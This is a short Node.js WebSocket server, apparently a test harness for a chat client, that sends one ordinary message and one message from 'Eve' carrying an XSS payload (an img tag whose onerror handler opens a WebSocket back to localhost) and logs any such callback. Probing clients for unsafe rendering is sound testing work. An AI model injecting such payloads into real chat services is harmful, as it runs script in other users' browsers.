const { WebSocketServer } = require('ws');

const server = new WebSocketServer({ port: 8080 });

server.on('connection', (client, request) => {
  client.on('error', (error) => console.error(error.message));
  if (request.url !== '/') {
    console.log('somebody brought', request.url);
    return;
  }
  client.send('Ada: good morning');
  client.send(`Eve: <img src="" onerror="new WebSocket('ws://localhost:8080/what-you-typed')">`);
});

server.on('listening', () => console.log('listening on 8080'));
